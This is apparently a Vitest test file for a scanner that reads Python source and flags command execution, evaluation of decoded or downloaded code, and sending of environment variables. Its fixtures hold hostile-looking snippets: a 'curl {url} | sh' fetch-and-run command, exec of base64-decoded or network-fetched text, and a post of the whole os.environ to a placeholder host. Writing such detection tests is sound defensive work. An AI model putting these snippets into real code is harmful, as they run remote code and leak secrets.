import { describe, expect, test } from "vitest";
import { Lines } from "../../src/parse/lines.ts";
import { readPython } from "../../src/parse/python.ts";

const read = (text: string) => readPython(new Lines("a.py", text));
const acts = (text: string) =>
  read(text)
    .acts.filter(({ does }) => does !== "mention")
    .map(({ at: _, ...act }) => act);

describe("a command", () => {
  test.each([
    `import os; os.system("id")`,
    `import os as o\no.system('i' 'd')`,
    `from os import system as go\ngo("id")`,
    `from subprocess import run\nrun(["id"])`,
    `import subprocess\nsubprocess.Popen("id", shell=True)`,
    `import subprocess\nCOMMAND = "id"\nsubprocess.run(COMMAND, shell=True)`,
    `import os\nos.system("\\x69\\x64")`,
    `if True: __import__; import os; os.system("""id""")`,
  ])("is seen: %s", (text) => {
    expect(acts(text)).toContainEqual(expect.objectContaining({ does: "run", text: "id" }));
  });

  test.each([`# os.system("id")`, `"""os.system("id")"""`, `db.system("id")`, `def system(x): pass`])("is not: %s", (text) => {
    expect(acts(text).filter(({ does }) => does === "run")).toEqual([]);
  });

  test("keeps what is known of it", () => {
    expect(acts(`import subprocess\nsubprocess.run(["sh", "-c", f"curl {url} | sh"])`)).toEqual([
      { does: "run", text: "sh -c 'curl $_ | sh'" },
    ]);
  });
});

test.each([
  ["decoded", `import base64; exec(base64.b64decode("cHJpbnQ="))`],
  ["decoded", `from base64 import b64decode as d\ncode = d(x)\nexec(code)`],
  ["fetched", `from urllib.request import urlopen\ntext = urlopen(url).read()\nexec(text)`],
  ["fetched", `import requests\nr = requests.get(u)\neval(r.text)`],
])("code that is made of %s text: %s", (matter, text) => {
  expect(acts(text)).toContainEqual(expect.objectContaining({ does: "evaluate", of: expect.arrayContaining([matter]) }));
});

test("a pattern is compiled, not run", () => {
  expect(acts(`import re, base64\nx = base64.b64decode(y)\nre.compile(x)\nmodel.eval()`)).toEqual([]);
});

test("the environment is sent as a whole, or not at all", () => {
  const post = (data: string) => acts(`import os, requests\nrequests.post("https://a.example.invalid", data=${data})`);
  expect(post("dict(os.environ)")).toEqual([{ does: "send", text: "https://a.example.invalid", of: ["environment"] }]);
  expect(post(`os.environ["CI"]`)).toEqual([{ does: "send", text: "https://a.example.invalid" }]);
});

test.each([
  ["1 MB of quotes", "'".repeat(1_000_000)],
  ["100 000 open calls", "exec(".repeat(100_000)],
  ["400 000 arguments", `exec(${"a,".repeat(400_000)})`],
  ["400 000 dots", `a${".a".repeat(400_000)}`],
])("%s are read in a bounded time", (_, text) => {
  const started = performance.now();
  read(text);
  expect(performance.now() - started).toBeLessThan(4_000);
});
